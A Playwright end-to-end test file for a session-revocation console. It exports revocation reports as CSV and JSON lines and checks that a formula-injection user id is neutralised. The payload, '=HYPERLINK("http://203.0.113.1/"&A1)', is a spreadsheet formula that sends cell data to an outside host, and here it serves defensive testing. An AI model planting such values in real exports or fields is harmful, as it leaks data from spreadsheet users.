import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { launchConsole } from '../hosts/launch.ts';
import { connectTo, type Operator, operate } from './support/console.ts';
import { ownCoreUnderTest } from './support/own-core.ts';
import { peopleOf } from './support/people.ts';

const core = ownCoreUnderTest();
const { alive } = peopleOf(core);

/** Of an application that keeps sessions under ids of its own: a spreadsheet would run it. */
const userId = '=HYPERLINK("http://203.0.113.1/"&A1)';
const sessions = 40;

let folder: string;
let operator: Operator;

/** The cells of a CSV text whose cells hold no line ends. */
function cellsOf(csv: string): string[][] {
  const [first, ...lines] = csv.trimEnd().split('\r\n');
  expect(first?.charCodeAt(0)).toBe(0xfeff);
  return [first?.slice(1) ?? '', ...lines].map((line) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain]) =>
      quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
    ),
  );
}

/** Exports what the list of the report shows, and gives the file's text. */
async function exported(format: 'CSV …' | 'JSON lines …', name: string): Promise<string> {
  const { launched, page } = operator;
  const file = join(folder, name);
  await launched.saveNextTo(file);
  await page.getByRole('button', { name: 'Export these sessions' }).click();
  await page.getByRole('menuitem', { name: format }).click();
  const told = page.getByRole('main').getByText(new RegExp(`^Saved .* to .*${name}$`));
  await expect(told).toBeVisible();
  return readFile(file, 'utf8');
}

test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'curfew-report-'));
  operator = operate(await launchConsole({ userData: join(folder, 'user-data') }));
  await connectTo(operator, { name: 'kept', address: core.uri, key: core.key });
});
test.afterAll(async () => {
  await operator.launched.close();
  expect(operator.launched.problems).toEqual({ cspViolations: [], pageErrors: [], consoleErrors: [] });
  await rm(folder, { recursive: true, force: true });
});

test('a report is narrowed to a state and exported; the file says what the core holds, and runs nothing', async () => {
  const { page, dialog } = operator;
  const handles = core.sandbox.seedSessions({ userId, count: sessions });
  await operator.goto(`/users/${encodeURIComponent(userId)}`);
  await page.getByRole('button', { name: `End ${sessions} sessions …`, exact: true }).click();
  await expect(dialog.getByRole('button', { name: `End ${sessions} sessions` })).toBeVisible();
  const before = handles.slice(0, 7);
  await core.client.post('/recipe/session/remove', { sessionHandles: before });
  await operator.confirm(`End ${sessions} sessions`);
  await dialog.getByRole('link', { name: 'Open the report' }).click();
  await expect(dialog).toBeHidden();
  expect(await alive(userId)).toEqual([]);

  const table = operator.grid('Sessions of this revocation');
  await expect(table).toHaveAttribute('aria-rowcount', String(sessions + 1));
  const all = cellsOf(await exported('CSV …', 'all.csv'));
  const [header = [], ...rows] = all;
  const column = (name: string) => rows.map((row) => row[header.indexOf(name)] ?? '');
  expect(column('handle').sort()).toEqual([...handles].sort());
  expect(column('state').filter((state) => state === 'already-gone')).toHaveLength(before.length);
  expect(column('state').filter((state) => state === 'revoked')).toHaveLength(sessions - before.length);
  expect(new Set(column('user'))).toEqual(new Set([`'${userId}`]));
  expect(all.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

  await page.getByText(`${before.length} were not there any more`, { exact: true }).last().click();
  await expect(table).toHaveAttribute('aria-rowcount', String(before.length + 1));
  const text = await exported('JSON lines …', 'gone.jsonl');
  const lines = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines.map(({ handle }) => handle).sort()).toEqual([...before].sort());
  for (const line of lines)
    expect(line).toMatchObject({ state: 'already-gone', user: userId, tenant: 'public' });

  await operator.launched.saveNextTo(null);
  await page.getByRole('button', { name: 'Export these sessions' }).click();
  await page.getByRole('menuitem', { name: 'CSV …' }).click();
  await expect(page.getByRole('main').getByText(/^Saved/)).toBeHidden();
});

test('after a restart it stands in the list of revocations, with its sessions', async () => {
  await operator.launched.close();
  operator = operate(await launchConsole({ userData: join(folder, 'user-data') }));
  const { page } = operator;
  await expect(operator.topBar).toContainText('kept');
  await page.getByRole('link', { name: 'Revocations', exact: true }).click();
  const past = operator.grid('Revocations, newest first');
  const row = past.locator('tbody').getByRole('row');
  await expect(row).toHaveCount(1);
  await expect(row).toContainText('spec');
  await expect(row).toContainText('complete');
  await row.getByRole('link', { name: `${sessions} of ${sessions} ended` }).click();
  await expect(page.getByRole('heading', { name: `Revocation of ${sessions} sessions` })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('7 were not there any more');
  await expect(operator.grid('Sessions of this revocation')).toHaveAttribute(
    'aria-rowcount',
    String(sessions + 1),
  );
});
